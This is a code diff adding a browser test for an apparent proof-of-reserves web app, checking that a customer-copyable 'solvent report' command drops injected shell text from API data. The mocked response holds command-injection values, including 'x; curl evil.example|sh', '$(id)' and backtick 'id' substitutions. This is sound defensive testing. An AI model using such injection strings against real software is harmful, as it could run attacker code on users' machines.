@@ -155,3 +155,28 @@ def test_the_suggested_report_gives_the_pages_verdicts(
     without = {line["asset"]: line["status"] for line in declared["snapshots"][0]["assets"]}
     assert any(shown[s] == "PASS" and without[s] == "DECLARED" for s in shown)
     assert not page.errors and not page.console_errors
+
+
+def test_the_report_line_carries_no_text_but_chains_and_known_options(page: Any, server_v2_reserves: Server) -> None:
+    """summary.json's checked_with is joined into a line a customer copies: a chain name or an
+    option that is not of the registry's own forms (shell text) never reaches it."""
+    url = f"{server_v2_reserves.url}api/snapshots/{V2_RESERVES_ID}"
+    real = page.request.get(url).json()
+    how = real["solvency"]["checked_with"]
+    assert how["node_chains"]
+    evil = "x; curl evil.example|sh"
+    real["solvency"]["checked_with"] = {
+        "node_chains": [*how["node_chains"], f"bitcoin=URL {evil} #"],
+        "options": [*how["options"], "--token", f"ethereum:EVIL=0x{'1' * 40} $(id)", "--max-block-age", "1h`id`", evil],
+    }
+    body = json.dumps(real)
+
+    def handle(route: Any) -> None:
+        route.fulfill(status=200, body=body, content_type="application/json")
+
+    page.route(url, handle)
+    open_page(page, server_v2_reserves.url)
+    report_cmd = next(c for c in commands(page) if c.startswith("solvent report"))
+    assert all(f"--node {c}=URL" in report_cmd for c in how["node_chains"])
+    assert not any(ch in report_cmd for ch in ";|$`#'\"()"), report_cmd
+    assert "evil" not in report_cmd and "EVIL" not in report_cmd and "1h" not in report_cmd
